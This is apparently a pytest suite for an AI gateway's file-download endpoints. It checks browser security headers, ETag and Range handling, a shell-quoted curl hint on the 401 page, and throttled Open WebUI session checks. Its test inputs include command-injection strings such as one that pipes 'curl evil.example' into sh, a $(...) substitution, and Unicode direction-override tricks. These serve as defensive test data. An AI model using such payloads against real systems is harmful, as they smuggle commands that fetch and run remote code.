"""Downloads as a browser and a cache meet them, and who may ask Open WebUI (issue 33).

Real ``gateway run`` apps on hypercorn (loopback), the demo upstream, and for the
session checks a small real Open WebUI stand-in on hypercorn that answers
``GET /api/v1/auths/`` like Open WebUI 0.12.4 (200 with the user for its one valid
token, 401 otherwise) and counts the calls.

* every download answer (200, 206, 304, 416) carries ``Content-Security-Policy:
  sandbox``, ``Referrer-Policy: no-referrer``, ``nosniff`` and
  ``Cross-Origin-Resource-Policy: same-origin`` -- ``cross-origin`` for images, which
  Open WebUI shows inline from its own origin;
* the ``ETag`` is honoured (RFC 9110 §13.2.2): ``If-None-Match`` → 304 without a body
  (weak comparison, ``*``, lists), ``If-Match`` that names another → 412, ``If-Range``
  keeps a Range only for its own strong tag, HEAD answers the same heads without a
  body; a changed file is 410 whatever the client's tag;
* the 401 page's ``curl`` hint is built from a valid artifact id alone: a crafted link
  (quotes, ``;``, ``|``, U+202E) shows no command with its text;
* unknown Open WebUI sessions are checked at a bounded rate: 40 garbage tokens cost at
  most the burst plus the rate of calls, while a verified session stays verified
  without a new call, and a session verified before is checked again without waiting.
"""

from __future__ import annotations

import json
import re
import shlex
import time
import urllib.parse
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import Any

import httpx
import pytest
import trio
from quart import Response, request
from quart_trio import QuartTrio

from gateway.clients.openwebui import CHECK_BURST
from gateway.http.serve import serve_app
from tests.conftest import ALICE_KEY, BOB_KEY, Gateway, make_config, start_gateway

BROWSER = "text/html,application/xhtml+xml"
POLICY = {
    "content-security-policy": "sandbox",
    "cross-origin-resource-policy": "same-origin",  # report.pdf: no other page embeds it
    "referrer-policy": "no-referrer",
    "x-content-type-options": "nosniff",
}


async def mint(
    gw: Gateway, key: str = ALICE_KEY, name: str = "report.pdf", **body: Any
) -> tuple[str, bytes]:
    """One private link to a demo file (answer of model ``demo``), as a path."""
    async with gw.client(key) as c:
        r = await c.post(
            "/v1/chat/completions",
            json={"model": "demo", "stream": False, "messages": [{"role": "user", "content": "hi"}]}
            | body,
        )
    assert r.status_code == 200, r.text
    art = next(a for a in r.json()["gateway"]["artifacts"] if a["filename"] == name)
    url: str = art["url"]
    path = urllib.parse.urlsplit(url)
    return path.path + (f"?{path.query}" if path.query else ""), b""


def assert_policy(r: httpx.Response) -> None:
    for name, value in POLICY.items():
        assert r.headers.get(name) == value, (r.status_code, name, r.headers)


async def test_downloads_carry_the_browser_policy_and_honour_their_etag(
    gateway: Gateway, tmp_path: Path
) -> None:
    link, _ = await mint(gateway)
    data = (tmp_path / "artifacts" / "report.pdf").read_bytes()
    async with gateway.client() as c:
        full = await c.get(link)
        assert full.status_code == 200 and full.content == data
        assert_policy(full)
        tag = full.headers["etag"]
        assert re.fullmatch(r'"[A-Za-z0-9_-]+"', tag)

        # If-None-Match: the same tag (also weak, in a list, or *) -> 304, no body
        for value in (tag, "W/" + tag, f'"other", {tag}', "*"):
            r = await c.get(link, headers={"If-None-Match": value})
            assert r.status_code == 304 and r.content == b"", (value, r.status_code)
            assert r.headers["etag"] == tag and r.headers["cache-control"] == "private, no-store"
            assert "content-length" not in r.headers or r.headers["content-length"] == "0"
            assert "content-disposition" not in r.headers
            assert_policy(r)
        for value in ('"other"', 'W/"other"', tag[:-2] + '"'):
            r = await c.get(link, headers={"If-None-Match": value})
            assert r.status_code == 200 and r.content == data, value
        # If-None-Match is looked at before Range: a cached copy is not re-sent in part
        r = await c.get(link, headers={"If-None-Match": tag, "Range": "bytes=0-3"})
        assert r.status_code == 304

        # If-Match: strong comparison; another tag (or a weak one) -> 412, nothing sent
        for value in (tag, "*", f'"x", {tag}'):
            r = await c.get(link, headers={"If-Match": value, "Range": "bytes=0-3"})
            assert r.status_code == 206 and r.content == data[:4], value
        for value in ('"other"', "W/" + tag):
            r = await c.get(link, headers={"If-Match": value})
            assert r.status_code == 412 and r.json()["error"]["code"] == "precondition_failed"

        # If-Range: the Range counts only for this exact (strong) tag
        r = await c.get(link, headers={"If-Range": tag, "Range": "bytes=0-3"})
        assert r.status_code == 206 and r.content == data[:4]
        assert r.headers["content-range"] == f"bytes 0-3/{len(data)}"
        assert_policy(r)
        for value in ('"other"', "W/" + tag, "Wed, 21 Oct 2015 07:28:00 GMT"):
            r = await c.get(link, headers={"If-Range": value, "Range": "bytes=0-3"})
            assert r.status_code == 200 and r.content == data, value
            assert "content-range" not in r.headers
        r = await c.get(link, headers={"Range": f"bytes={len(data)}-"})
        assert r.status_code == 416 and r.headers["content-range"] == f"bytes */{len(data)}"
        assert_policy(r)

        # HEAD: the same heads, no body
        for headers, status in (
            ({}, 200),
            ({"Range": "bytes=1-2"}, 206),
            ({"If-None-Match": tag}, 304),
        ):
            r = await c.head(link, headers=headers)
            assert r.status_code == status and r.content == b"", headers
            assert r.headers["etag"] == tag
            assert_policy(r)
        r = await c.head(link)
        assert r.headers["content-length"] == str(len(data))

        # another principal learns nothing from a tag: 404, as without it
        async with gateway.client(BOB_KEY) as bob:
            r = await bob.get(link, headers={"If-None-Match": tag})
            assert r.status_code == 404

        # the file changed: 410, whatever tag the client holds
        (tmp_path / "artifacts" / "report.pdf").write_bytes(data + b"more")
        for headers in ({"If-None-Match": tag}, {"If-Match": tag}, {}):
            r = await c.get(link, headers=headers)
            assert r.status_code == 410 and r.json()["error"]["code"] == "artifact_changed"


async def test_public_links_carry_the_policy_too(gateway: Gateway) -> None:
    link, _ = await mint(gateway, download_link_mode="public")
    assert "sig=" in link
    async with httpx.AsyncClient(base_url=gateway.url) as anyone:
        r = await anyone.get(link)
        assert r.status_code == 200 and r.headers["cache-control"] == "private, no-cache"
        assert_policy(r)
        again = await anyone.get(link, headers={"If-None-Match": r.headers["etag"]})
        assert again.status_code == 304 and again.content == b""


async def test_images_may_be_shown_by_other_origins(gateway: Gateway) -> None:
    """Open WebUI (another port, or another host) renders ``![chart](link)`` as an
    ``<img>``: images say ``cross-origin``, everything else ``same-origin``."""
    link, _ = await mint(gateway, name="plot.png")
    async with gateway.client() as c:
        r = await c.get(link)
        assert r.status_code == 200 and r.headers["content-type"] == "image/png"
        assert r.headers["cross-origin-resource-policy"] == "cross-origin"
        assert r.headers["content-security-policy"] == "sandbox"
        r = await c.get(link, headers={"If-None-Match": r.headers["etag"]})
        assert r.status_code == 304
        assert r.headers["cross-origin-resource-policy"] == "cross-origin"


CRAFTED = [
    "AAAAAAAAAAAAAAAAAAAA'; curl evil.example | sh; '",
    "AAAAAAAAAAAAAAAAAAAA\u202e'hs | elpmaxe.live lruc ;'",
    "\u202eAAAAAAAAAAAAAAAAAAAA",
    "AAAAAAAAAAAAAAAAAAAA$(curl evil.example)",
    "AAAAAAAAAAAAAAAAAAAA`id`",
    "ΑΑΑΑΑΑΑΑΑΑΑΑΑΑΑΑΑΑΑΑ",  # Greek capital alphas: str.isalnum says yes
    "AAAAAAAAAAAAAAAAAAAA\u2066x",
]


@pytest.mark.parametrize("crafted", CRAFTED)
async def test_the_401_page_hint_is_built_from_a_valid_id_alone(
    gateway: Gateway, crafted: str
) -> None:
    async with httpx.AsyncClient(base_url=gateway.url) as browser:
        for suffix in ("", "/share"):
            path = "/v1/artifacts/" + urllib.parse.quote(crafted, safe="") + suffix
            r = await browser.get(path, headers={"Accept": BROWSER})
            assert r.status_code == 401 and r.headers["content-type"].startswith("text/html")
            page = r.text
            assert "Sign in to open this file" in page
            assert "evil" not in page and "curl -OJ" not in page, page
            assert crafted not in page and "\u202e" not in page and "\u2066" not in page
            assert "Authorization: Bearer &lt;your key&gt;" in page


async def test_the_401_page_hint_for_a_real_link_is_one_quoted_command(
    nursery: trio.Nursery, tmp_path: Path, upstream: Any
) -> None:
    """The link comes from ``server.public_base_url`` and the id; the command splits into
    exactly curl's arguments (shell quoting, not string pasting)."""
    cfg = make_config(tmp_path, upstream.url + "/v1")
    gw = await start_gateway(nursery, cfg)
    link, _ = await mint(gw)
    async with httpx.AsyncClient(base_url=gw.url) as browser:
        r = await browser.get(link, headers={"Accept": BROWSER})
    assert r.status_code == 401
    m = re.search(r"<code>(curl [^<]*)</code>", r.text)
    assert m is not None, r.text
    import html

    words = shlex.split(html.unescape(m.group(1)))
    assert words == [
        "curl",
        "-OJ",
        "-H",
        "Authorization: Bearer <your key>",
        "http://127.0.0.1:8642" + link,
    ]


# --------------------------------------------------------------------------- Open WebUI


@dataclass
class FakeOpenWebUI:
    """Answers ``GET /api/v1/auths/`` as Open WebUI does; counts every call."""

    valid: dict[str, str]  # token -> user id
    calls: list[str] = field(default_factory=list)
    url: str = ""

    def app(self) -> QuartTrio:
        app = QuartTrio("fake-openwebui")

        @app.get("/api/v1/auths/")
        async def whoami() -> Response:
            token = (request.headers.get("Authorization") or "").removeprefix("Bearer ")
            self.calls.append(token)
            uid = self.valid.get(token)
            if uid is None:
                body = json.dumps({"detail": "Invalid token"})
                return Response(body, 401, content_type="application/json")
            user = {"id": uid, "email": f"{uid}@example.com", "name": uid, "role": "user"}
            return Response(json.dumps(user), 200, content_type="application/json")

        return app


def cookie(token: str) -> dict[str, str]:
    """The ``token`` cookie a browser sends (Open WebUI's session, same host)."""
    return {"Cookie": f"token={token}"}


def jwt_shaped(n: int) -> str:
    """A token with a JWT's shape that Open WebUI refuses."""
    return f"eyJhbGciOiJIUzI1NiJ9.eyJpZCI6Imd{n:04d}In0.c2lnbmF0dXJl{n:04d}"


@pytest.fixture
async def owui(nursery: trio.Nursery) -> AsyncIterator[FakeOpenWebUI]:
    fake = FakeOpenWebUI({jwt_shaped(9999): "u-alice", "sk-0123456789abcdef": "u-bob"})
    urls: list[str] = await nursery.start(
        partial(serve_app, fake.app(), "127.0.0.1:0", shutdown_trigger=trio.sleep_forever)
    )
    fake.url = urls[0]
    yield fake


async def test_session_checks_are_throttled_and_cannot_evict_verified_sessions(
    nursery: trio.Nursery, tmp_path: Path, upstream: Any, owui: FakeOpenWebUI
) -> None:
    rate = 2.0
    cfg = make_config(
        tmp_path,
        upstream.url + "/v1",
        proxy={"openwebui_url": owui.url, "session_checks_per_second": rate},
    )
    gw = await start_gateway(nursery, cfg)
    alice_token = jwt_shaped(9999)
    # the Open WebUI user's own link (minted for openwebui:u-alice through a proxy key
    # would be the same; a store record is simplest)
    link, _ = await mint(gw)
    art_id = link.rsplit("/", 1)[1]
    store = gw.app.gateway.store
    rec = store.get_artifact(art_id)
    import dataclasses

    own = dataclasses.replace(rec, id="X" * 32, owner="openwebui:u-alice")
    store.create_artifact(own)
    own_link = "/v1/artifacts/" + own.id

    async with httpx.AsyncClient(base_url=gw.url) as browser:
        r = await browser.get(own_link, headers=cookie(alice_token))
        assert r.status_code == 200, r.text
        assert owui.calls == [alice_token]

        # tokens that cannot be Open WebUI's are refused without a call
        for junk in ("x", "not-a-token", "a.b", "a.b.c.d", "sk-" + "x" * 300):
            r = await browser.get(own_link, headers=cookie(junk) | {"Accept": BROWSER})
            assert r.status_code == 401, junk
        assert owui.calls == [alice_token]

        # 40 garbage JWT-shaped tokens, as fast as they come
        t0 = time.monotonic()
        statuses: list[int] = []
        for n in range(40):
            r = await browser.get(own_link, headers=cookie(jwt_shaped(n)))
            statuses.append(r.status_code)
            if r.status_code == 429:
                assert r.json()["error"]["code"] == "too_many_session_checks"
                assert 1 <= int(r.headers["retry-after"]) <= 1 + int(1 / rate)
        elapsed = time.monotonic() - t0
        garbage_calls = len(owui.calls) - 1
        bound = CHECK_BURST + rate * elapsed + 1
        print(f"\n40 garbage tokens in {elapsed:.2f} s: {garbage_calls} calls to Open WebUI")
        assert garbage_calls <= bound, (garbage_calls, elapsed)
        assert statuses.count(401) == garbage_calls and statuses.count(429) == 40 - garbage_calls
        # the same garbage again: refusals remembered (no call, no bucket)
        r = await browser.get(own_link, headers=cookie(jwt_shaped(0)))
        assert r.status_code == 401 and len(owui.calls) == garbage_calls + 1

        # the verified session is still verified, without a new call
        calls = len(owui.calls)
        r = await browser.get(own_link, headers=cookie(alice_token))
        assert r.status_code == 200 and len(owui.calls) == calls

        # another principal's link with alice's session: 404, as for any key
        r = await browser.get(link, headers=cookie(alice_token))
        assert r.status_code == 404

        # a browser is told in a page, with Retry-After (new garbage until the bucket,
        # refilling at 2/s meanwhile, is empty again)
        for n in range(100, 100 + CHECK_BURST + 2):
            page = await browser.get(own_link, headers=cookie(jwt_shaped(n)) | {"Accept": BROWSER})
            if page.status_code == 429:
                break
        assert page.status_code == 429 and page.headers["content-type"].startswith("text/html")
        assert int(page.headers["retry-after"]) >= 1 and "too_many_session_checks" in page.text


async def test_a_known_session_is_checked_again_without_the_bucket(
    nursery: trio.Nursery, tmp_path: Path, upstream: Any, owui: FakeOpenWebUI
) -> None:
    """With no cache (``session_cache_seconds = 0``) every request checks again; a
    session verified before skips the bucket a flood emptied, a new one waits."""
    cfg = make_config(
        tmp_path,
        upstream.url + "/v1",
        proxy={
            "openwebui_url": owui.url,
            "session_checks_per_second": 0.5,
            "session_cache_seconds": 0,
        },
    )
    gw = await start_gateway(nursery, cfg)
    ow = gw.app.gateway.openwebui
    assert ow is not None
    assert await ow.verify(jwt_shaped(9999)) is not None  # known from now on
    for n in range(CHECK_BURST + 5):
        try:
            await ow.verify(jwt_shaped(n))
        except Exception as exc:  # the bucket is empty
            assert getattr(exc, "code", "") == "too_many_session_checks"
    calls = len(owui.calls)
    user = await ow.verify(jwt_shaped(9999))
    assert user is not None and user.id == "u-alice" and len(owui.calls) == calls + 1
    with pytest.raises(Exception) as info:
        await ow.verify("sk-0123456789abcdef")  # valid, but never seen: waits its turn
    assert getattr(info.value, "code", "") == "too_many_session_checks"


async def test_one_call_for_many_concurrent_checks_of_one_token(
    nursery: trio.Nursery, tmp_path: Path, upstream: Any, owui: FakeOpenWebUI
) -> None:
    """A page with many private images sends the same new cookie with each: one call."""
    cfg = make_config(tmp_path, upstream.url + "/v1", proxy={"openwebui_url": owui.url})
    gw = await start_gateway(nursery, cfg)
    ow = gw.app.gateway.openwebui
    assert ow is not None
    results: list[Any] = []

    async def check() -> None:
        results.append(await ow.verify("sk-0123456789abcdef"))

    async with trio.open_nursery() as n:
        for _ in range(25):
            n.start_soon(check)
    assert len(results) == 25 and all(u is not None and u.id == "u-bob" for u in results)
    assert owui.calls == ["sk-0123456789abcdef"]
